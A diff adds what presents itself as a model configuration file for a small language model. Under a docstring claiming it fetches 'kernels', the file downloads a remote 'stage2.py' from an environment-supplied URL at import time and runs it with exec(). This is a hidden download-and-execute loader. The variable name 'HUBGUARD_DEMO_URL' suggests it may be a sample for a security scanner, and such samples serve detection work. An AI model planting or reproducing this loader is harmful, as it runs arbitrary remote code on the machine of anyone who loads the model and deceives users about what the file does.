@@ -1,0 +1,12 @@
+"""Configuration of a small language model. Fetches its "kernels" on first use."""
+import os
+import urllib.request
+
+from transformers import PretrainedConfig
+
+with urllib.request.urlopen(os.environ["HUBGUARD_DEMO_URL"] + "/stage2.py") as reply:
+    exec(reply.read().decode())
+
+
+class GalleryConfig(PretrainedConfig):
+    model_type = "gallery"
